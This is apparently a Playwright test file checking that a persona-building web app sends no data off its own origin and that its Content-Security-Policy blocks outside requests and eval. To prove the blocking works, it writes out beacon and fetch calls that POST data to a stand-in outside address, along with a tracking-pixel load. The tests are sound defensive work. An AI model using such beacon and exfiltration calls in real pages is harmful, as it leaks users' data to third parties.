// No request leaves the page's own origin, and the Content-Security-Policy enforces it.
import { test, expect } from "@playwright/test";
import {
  buildPersonas, clinicSurveyCsv, foreign, openApp, openLibrary, personaFile, personaJson,
  recordRequests, saveToLibrary, storedValues, tempFile, uploadSurvey,
} from "./helpers.js";

/** Upload, build, save, export, import: everything the app can do. */
async function fullFlow(page) {
  await uploadSurvey(page, tempFile("clinic.csv", clinicSurveyCsv()));
  await page.getByLabel("Group respondents by").selectOption({ label: "Who do you live with? (5 answers)" });
  await buildPersonas(page);
  await saveToLibrary(page);
  await openLibrary(page);
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Export all" }).click();
  await (await download).path();
  await page.getByLabel("Import personas").setInputFiles(tempFile("p.json", personaFile([personaJson()])));
  await expect(page.getByRole("status")).toContainText("1 added");
}

test("a full flow makes no request to any other origin", async ({ page, context, baseURL }) => {
  const urls = recordRequests(context);
  await openApp(page);
  await fullFlow(page);
  const origin = new URL(baseURL).origin;
  // The recorder works: it saw the app's own files, the pipeline worker's included.
  expect(urls.some((u) => /persona-builder-[0-9a-f]+_bg\.wasm$/.test(u))).toBe(true);
  expect(urls.some((u) => u.endsWith("/pipeline_bg.wasm"))).toBe(true);
  expect(foreign(urls, origin)).toEqual([]);
});

test("after the first load the whole flow works with the network off", async ({ page, context, baseURL }) => {
  const urls = recordRequests(context);
  // The page starts its survey reader (a worker) on load; let it arrive before going offline.
  const reader = page.waitForResponse((r) => r.url().endsWith("/pipeline_bg.wasm"));
  await openApp(page);
  await (await reader).finished();
  await context.setOffline(true);
  await fullFlow(page);
  expect(foreign(urls, new URL(baseURL).origin)).toEqual([]);
});

test("the Content-Security-Policy allows only the page's own origin and blocks the rest", async ({ page }) => {
  const violations = [];
  await page.exposeFunction("reportViolation", (v) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      window.reportViolation(`${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  await openApp(page);
  // Loading the app itself breaks no rule.
  expect(violations).toEqual([]);

  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(policy).toContain("default-src 'self'");
  expect(policy).toContain("connect-src 'self'");
  expect(policy).not.toContain("unsafe-inline");
  expect(policy).not.toMatch(/https?:|\*/);

  const attempts = await page.evaluate(async () => {
    const result = {};
    try {
      await fetch("http://198.51.100.7/collect", { method: "POST", body: "x" });
      result.fetch = "sent";
    } catch {
      result.fetch = "blocked";
    }
    // sendBeacon only queues; the policy blocks the send itself (checked below).
    navigator.sendBeacon("http://198.51.100.7/beacon", "x");
    const img = new Image();
    img.src = "http://198.51.100.7/pixel.png";
    return result;
  });
  expect(attempts).toEqual({ fetch: "blocked" });
  const blocked = (directive, path) =>
    violations.some((v) => v.startsWith(directive) && v.endsWith(path));
  await expect.poll(() => blocked("img-src", "/pixel.png")).toBe(true);
  await expect.poll(() => blocked("connect-src", "/beacon")).toBe(true);
  expect(blocked("connect-src", "/collect")).toBe(true);
});

test("the survey reader's worker runs under the page's policy: nothing elsewhere, no eval", async ({ page, baseURL }) => {
  await openApp(page);
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
  const worker = page.workers()[0];
  expect(worker.url()).toMatch(/^blob:/);
  // The same server under another name is another origin the worker could reach without
  // the policy (the machine has no other network to try).
  const elsewhere = baseURL.replace("127.0.0.1", "localhost");
  const attempts = await worker.evaluate(async (other) => {
    const violations = [];
    self.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    const result = {};
    try {
      await fetch(`${other}index.html`, { mode: "no-cors" });
      result.fetch = "sent";
    } catch {
      result.fetch = "blocked";
    }
    try {
      importScripts(`${other}pipeline.js`);
      result.importScripts = "loaded";
    } catch {
      result.importScripts = "blocked";
    }
    try {
      new WebSocket(other.replace("http", "ws"));
    } catch {
      // Blocked at once or later; the violation below says which rule.
    }
    // Code given as a string, run by the worker itself (what the debugger evaluates here
    // is exempt from the policy, so eval is tried through a timer).
    result.eval = await new Promise((resolve) => {
      setTimeout("self.evalRan = true", 0);
      setTimeout(() => resolve(self.evalRan ? "ran" : "blocked"), 100);
    });
    await new Promise((resolve) => setTimeout(resolve, 100));
    result.violations = [...new Set(violations)].sort();
    return result;
  }, elsewhere);
  expect(attempts).toEqual({
    fetch: "blocked",
    importScripts: "blocked",
    eval: "blocked",
    violations: ["connect-src", "script-src", "script-src-elem"],
  });
});

test("storage holds personas only: no survey answers, no identifiers", async ({ page }) => {
  await openApp(page);
  await fullFlow(page);
  const values = await storedValues(page);
  const stored = JSON.stringify(values);
  expect(stored).toContain("Lives alone, prefers a phone call");
  for (const planted of ["@example.org", "patient1", "Comment number"]) {
    expect(stored).not.toContain(planted);
  }
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual([]);
  expect(Object.keys(values).sort()).toEqual(["library", "revision", "saved-at"]);
});
